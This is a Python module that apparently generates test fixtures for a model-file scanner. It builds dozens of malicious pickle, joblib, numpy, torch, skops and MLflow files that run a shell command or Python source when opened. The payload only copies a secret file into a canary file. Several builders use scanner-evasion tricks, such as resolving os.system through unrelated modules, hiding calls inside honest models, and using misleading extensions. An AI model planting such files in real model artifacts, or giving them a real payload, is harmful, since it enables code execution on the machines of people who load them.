"""Files that run code when they are opened naively: built here, byte by byte where no library writes them.

Each is given a command and Python source that do the same harm: they copy a secret into a file. `naive.py` opens each
as most tools do, and shows that the harm is real.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import subprocess
import zipfile
import zlib
from dataclasses import dataclass
from functools import partial

import joblib
import numpy as np
import pandas as pd
import skops.io
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer


@dataclass(frozen=True, slots=True)
class Harm:
    """What opening a file does."""

    secret: str
    canary: str

    @property
    def command(self):
        """Return it for a shell."""
        return f"cat {self.secret} > {self.canary}"

    @property
    def source(self):
        """Return it in Python."""
        return f"open({self.canary!r}, 'w').write(open({self.secret!r}).read())"


class Calls:
    """Pickled as the call of a function."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        """Return what unpickling calls."""
        return self.reduced


def pickled(harm, function, protocol=4, *, is_source=False):
    """Return a pickle that calls `function` with the command or the source."""
    return pickle.dumps(Calls(function, harm.source if is_source else harm.command), protocol)


def by_name(harm, module, name, *, is_source=False, more=b""):
    """Return a pickle of protocol 4 that looks up a dotted name in a module, whatever that module is known for."""
    return b"\x80\x04" + _text(module) + _text(name) + b"\x93" + _text(_what(harm, is_source)) + more + b"\x85R."


def _text(text):
    return b"X" + len(text.encode()).to_bytes(4, "little") + text.encode()


def _what(harm, is_source):
    return harm.source if is_source else harm.command


def oldest(harm):
    """Return a pickle of protocol 0, which is plain text."""
    return f"cposix\nsystem\n(S{harm.command!r}\ntR.".encode()


def by_instance(harm):
    """Return a pickle that builds an instance by the oldest instruction for it."""
    return f"(S{harm.command!r}\niposix\nsystem\n.".encode()


def by_object(harm):
    """Return a pickle that builds an instance from the stack."""
    return f"(cposix\nsystem\nS{harm.command!r}\no.".encode()


def by_new_object(harm):
    """Return a pickle that makes a new object of a class whose making runs a program."""
    return b"\x80\x04csubprocess\nPopen\n(X\x07\0\0\0/bin/shX\x02\0\0\0-c" + _text(harm.command) + b"l\x85R."


def by_state(harm):
    """Return a pickle that hands a state to an object whose attribute is called for it."""
    return (
        b"\x80\x04ctypes\nSimpleNamespace\n)R}X\x0c\0\0\0__setstate__cposix\nsystem\nsb" + _text(harm.command) + b"b."
    )


def after_a_model(harm):
    """Return a fitted model, pickled, with a call before it."""
    body = pickle.dumps(fitted(), 4)
    return b"\x80\x04" + by_name(harm, "posix", "system")[2:-1] + b"0" + body[2:]


def in_a_state(harm):
    """Return a fitted model, pickled, with a call among its attributes."""
    model = fitted()
    model.note_ = Calls(os.system, harm.command)
    return pickle.dumps(model)


def when_asked(harm, dump):
    """Return a fitted pipeline whose first step runs a command once it is asked about rows."""
    step = FunctionTransformer(exec, kw_args={}, check_inverse=False)
    step.func = partial_source(harm)
    return dump(make_pipeline(step, fitted()))


def partial_source(harm):
    """Return a function of rows that is another's, with its arguments already given."""
    return partial(exec, harm.source, {})


def fitted():
    """Return a small honest model."""
    rows = pd.DataFrame({"a": [0.0, 1.0, 2.0, 3.0], "b": [1.0, 0.0, 1.0, 0.0]})
    return LogisticRegression().fit(rows, ["no", "no", "yes", "yes"])


def dumped(value, compress=0):
    """Return what joblib writes."""
    target = io.BytesIO()
    joblib.dump(value, target, compress=compress)
    return target.getvalue()


def joblibbed(harm, compress):
    """Return a joblib file that runs the command."""
    return dumped(Calls(os.system, harm.command), compress)


def array_of_objects(harm):
    """Return a numpy file of objects."""
    target = io.BytesIO()
    np.save(target, np.array([Calls(os.system, harm.command)], object), allow_pickle=True)
    return target.getvalue()


def arrays_of_objects(harm):
    """Return a numpy archive of objects."""
    target = io.BytesIO()
    np.savez(target, model=np.array([Calls(os.system, harm.command)], object))
    return target.getvalue()


def objects_in_joblib(harm):
    """Return an array of objects, as joblib writes one inside a model."""
    return dumped({"coef": np.array([Calls(os.system, harm.command)], object)})


def zipped(**members):
    """Return a zip of these files."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def in_a_zip(harm):
    """Return a pickle in a zip, as torch saves models."""
    return zipped(**{"model/data.pkl": pickled(harm, os.system), "model/version": b"3"})


def skops_function(harm):
    """Return a skops file of a pipeline whose step is a function that runs the command it is shown."""
    model = fitted()
    model.feature_names_in_ = np.array(["a", "b"], object)
    step = FunctionTransformer(os.system)
    step.audited_command = harm.command
    return skops.io.dumps(make_pipeline(step, model))


def skops_partial(harm):
    """Return a skops file with functools.partial in it: a function with its arguments already given."""
    return when_asked(harm, skops.io.dumps)


def callable_source(harm):
    """Return a Python file that does harm when it is imported, and is an honest model afterwards."""
    return f"""import numpy as np
INPUTS = {{"a": "number", "b": "number"}}
CLASSES = ["no", "yes"]
{harm.source}
def score(rows):
    return np.full(len(rows), 0.5)
""".encode()


def mlflow_module(harm):
    """Return an MLflow folder without a pickle: what opens it is a module that lies in it."""
    index = {"flavors": {"python_function": {"loader_module": "audited_loader", "code": "code"}}}
    source = f"def _load_pyfunc(path):\n    {harm.source}\n"
    return {"MLmodel": json.dumps(index).encode(), "code/audited_loader.py": source.encode()}


def mlflow_pickle(harm):
    """Return an MLflow folder of a Python model, which is a pickle."""
    flavor = {"loader_module": "mlflow.pyfunc.model", "python_model": "python_model.pkl"}
    index = {"flavors": {"python_function": flavor}}
    return {"MLmodel": json.dumps(index).encode(), "python_model.pkl": pickled(harm, os.system)}


def mlflow_sklearn(harm):
    """Return an MLflow folder of a scikit-learn model, which is a pickle too."""
    index = {"flavors": {"sklearn": {"pickled_model": "model.pkl", "serialization_format": "cloudpickle"}}}
    return {"MLmodel": json.dumps(index).encode(), "model.pkl": after_a_model(harm)}


def wrapped(pack, harm):
    """Return a pickle, packed."""
    return pack(pickled(harm, os.system))


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: what builds it, what it is called, and how a naive tool opens it."""

    build: object
    name: str = "model.pkl"
    naive: str = "joblib"


FILES = {
    "a pickle that calls os.system": Hostile(partial(pickled, function=os.system)),
    "a pickle that calls os.popen": Hostile(partial(pickled, function=os.popen)),
    "a pickle that calls subprocess": Hostile(partial(pickled, function=subprocess.getoutput)),
    "a pickle that calls exec": Hostile(partial(pickled, function=exec, is_source=True)),
    "a pickle that calls eval": Hostile(partial(pickled, function=eval, is_source=True)),
    "a pickle of protocol 0": Hostile(oldest),
    "a pickle of protocol 1": Hostile(partial(pickled, function=os.system, protocol=1)),
    "a pickle of protocol 2": Hostile(partial(pickled, function=os.system, protocol=2)),
    "a pickle of protocol 3": Hostile(partial(pickled, function=os.system, protocol=3)),
    "a pickle of protocol 5": Hostile(partial(pickled, function=os.system, protocol=5)),
    "a pickle by INST": Hostile(by_instance),
    "a pickle by OBJ": Hostile(by_object),
    "a pickle that makes a process": Hostile(by_new_object),
    "a pickle that sets a state": Hostile(by_state),
    "os.system as logging's": Hostile(partial(by_name, module="logging", name="os.system")),
    "os.system as shutil's": Hostile(partial(by_name, module="shutil", name="os.system")),
    "os.system as joblib's": Hostile(partial(by_name, module="joblib.memory", name="os.system")),
    "subprocess as webbrowser's": Hostile(partial(by_name, module="webbrowser", name="subprocess.getoutput")),
    "exec by profile": Hostile(partial(by_name, module="cProfile", name="run", is_source=True)),
    "a fitted model after a call": Hostile(after_a_model),
    "a fitted model with a call inside": Hostile(in_a_state),
    "a pipeline that calls when it is asked": Hostile(partial(when_asked, dump=pickle.dumps), naive="asked"),
    "joblib": Hostile(partial(joblibbed, compress=0), "model.joblib"),
    "joblib in zlib": Hostile(partial(joblibbed, compress=("zlib", 3)), "model.joblib"),
    "joblib in gzip": Hostile(partial(joblibbed, compress=("gzip", 3)), "model.joblib"),
    "joblib in bzip2": Hostile(partial(joblibbed, compress=("bz2", 3)), "model.joblib"),
    "joblib in xz": Hostile(partial(joblibbed, compress=("xz", 3)), "model.joblib"),
    "joblib in lzma": Hostile(partial(joblibbed, compress=("lzma", 3)), "model.joblib"),
    "joblib with an array of objects": Hostile(objects_in_joblib, "model.joblib"),
    "a pickle in gzip": Hostile(partial(wrapped, gzip.compress), "model.pkl.gz"),
    "a pickle in zlib": Hostile(partial(wrapped, zlib.compress), "model.pkl.z"),
    "a pickle in bzip2": Hostile(partial(wrapped, bz2.compress), "model.pkl.bz2"),
    "a pickle in xz": Hostile(partial(wrapped, lzma.compress), "model.pkl.xz"),
    "a pickle called model.skops": Hostile(partial(pickled, function=os.system), "model.skops"),
    "a pickle called model.onnx": Hostile(partial(pickled, function=os.system), "model.onnx"),
    "a numpy array of objects": Hostile(array_of_objects, "model.npy", "numpy"),
    "a numpy archive of objects": Hostile(arrays_of_objects, "model.npz", "numpy"),
    "a pickle in a zip, as torch saves": Hostile(in_a_zip, "model.pt", "torch"),
    "skops with a function": Hostile(skops_function, "model.skops", "skops"),
    "skops with functools.partial": Hostile(skops_partial, "model.skops", "skops"),
    "a Python file": Hostile(callable_source, "model.py", "import"),
    "MLflow with a loader_module": Hostile(mlflow_module, "model", "mlflow"),
    "MLflow with a Python model": Hostile(mlflow_pickle, "model", "mlflow"),
    "MLflow with a scikit-learn model": Hostile(mlflow_sklearn, "model", "mlflow"),
}


def write(name, folder, harm):
    """Write one file, or folder of files, into `folder`; return where it is."""
    hostile = FILES[name]
    built = hostile.build(harm=harm) if isinstance(hostile.build, partial) else hostile.build(harm)
    place = folder / hostile.name
    members = built if isinstance(built, dict) else {"": built}
    for member, content in members.items():
        path = place / member
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    return place
